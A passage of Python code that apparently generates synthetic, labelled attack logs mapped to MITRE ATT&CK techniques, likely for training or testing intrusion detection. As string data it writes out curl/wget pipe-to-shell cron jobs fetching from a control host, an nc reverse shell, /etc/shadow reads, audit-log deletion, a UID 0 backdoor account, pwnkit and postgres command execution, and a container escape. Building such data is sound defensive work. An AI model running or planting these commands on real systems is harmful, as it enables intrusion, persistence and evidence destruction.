                     self.choice([CONTROL, "10.8.2.30"]), self.choice(["password", "publickey"]), 1, "ssh_intruder", "T1078",
                     key="SHA256:0dN1v8dYq2UuM3kWc5oJ6s7xRrT9pLzEaBhFgQiXyKs",
                     commands=[self.choice(["/usr/bin/bash", "/usr/bin/cat /etc/shadow", "/usr/sbin/usermod -aG sudo backup",
                                            "/usr/bin/systemctl stop auditd", "/usr/bin/vim -c ':!/bin/sh' /tmp/x",
                                            f"/usr/bin/wget http://{CONTROL}/ldr", "/usr/bin/tee /etc/sudoers.d/99-x",
                                            "/usr/bin/rm -rf /var/log/journal"]) for _ in range(3)])

    def persistence(self) -> None:
        """Jobs, modules and services."""
        for how in [f"(root) CMD (curl -fsSL http://{CONTROL}/a|sh)", "(www-data) CMD (/dev/shm/.x >/dev/null 2>&1)",
                    "(root) REPLACE (root)", f"(www-data) CMD (wget -qO- http://{CONTROL}/w|bash)",
                    f"(root) CMD (/var/tmp/.sh -p -c 'nc {CONTROL} 443 -e /bin/sh')", "(deploy) CMD (/tmp/.rsync/c/run &)"]:
            for _ in range(2):
                self.syslog(day_hour(1, 15) + self.rng.random() * 86400 * 2, self.choice(HOSTS[:2]), "CRON" if "REPL" not in how
                            else "crontab", how, self.next_pid(), 1, "cron_persist", "T1053.003")
        for host, program, how, unit in [("app-prod-2", "kernel", "diamorphine: loading out-of-tree module taints kernel.", "kernel"),
                                         ("app-prod-2", "systemd", "Started D-Bus helper.", "dbus-org.service"),
                                         ("app-prod-2", "useradd",
                                          "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/4", "-"),
                                         ("app-prod-2", "pkexec",
                                          "www-data: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=unknown] [CWD=/tmp] [COMMAND=GCONV_PATH=./pwnkit PATH=GCONV_PATH=. SHELL=/lol/i/do/not/exists]",
                                          "-"), ("db-prod-1", "postgres", f"LOG:  could not fork: COPY cmd FROM PROGRAM 'curl -s {CONTROL}:8000/pg.sh|sh'",
            "postgresql@14-main.service"),
                                         ("app-prod-2", "php-fpm",
                                          'WARNING: [pool www] child 4120 said into stderr: "sh: 1: /dev/shm/.x: Permission denied"',
                                          "php8.1-fpm.service"),
                                         ("bastion", "sudo",
                                          "kirsten : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash", "-"),
                                         ("app-prod-2", "systemd", "Stopping Security Auditing Service...", "auditd.service"),
                                         ("db-prod-1", "dockerd",
                                          'time="2022-06-15T01:11:09Z" level=info msg="Container started" image=alpine:latest cmd="chroot /mnt sh" privileged=true binds="/:/mnt"',
                                          "docker.service")]:
            self.journal(day_hour(1, 14) + self.rng.random() * 50000, host, program, how, unit, label=1, group="service_traces",
                         technique="T1543.002")
